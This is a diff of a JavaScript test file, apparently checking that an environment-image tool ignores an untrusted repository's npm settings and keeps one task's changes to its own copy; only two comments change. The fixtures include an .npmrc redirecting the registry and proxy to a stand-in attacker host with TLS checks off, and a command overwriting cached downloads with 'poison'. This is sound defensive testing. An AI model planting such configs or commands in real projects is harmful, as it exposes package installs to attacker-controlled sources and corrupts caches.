@@ -52,7 +52,7 @@ describe.if(requirePart("docker") && requirePart("environment-images"))(
       const repository = kit.repository({
         "package.json": JSON.stringify(manifest),
         "package-lock.json": JSON.stringify(lock),
-        // A stranger's settings do not reach whoever fetches.
+        // A stranger's settings do not reach the process that fetches.
         ".npmrc": "registry=http://evil.invalid/\nhttps-proxy=http://evil.invalid:1\nstrict-ssl=false\n",
       });
       const environments = await kit.open(
@@ -65,7 +65,7 @@ describe.if(requirePart("docker") && requirePart("environment-images"))(
       expect(first.steps).toContain("fetching");
       expect(first.prepared.installed).toMatchObject([{ success: true, file: "package-lock.json" }]);
       expect(registry.asked.filter((path) => path.endsWith(".tgz"))).toHaveLength(1);
-      // Whatever the task does to its own copy stays there.
+      // The task's changes to its own copy stay there.
       await first.run("find /workspace/tmp/.downloads -type f -exec sh -c 'echo poison > \"$1\"' _ {} \\;");
       await first.done();
       registry.close();
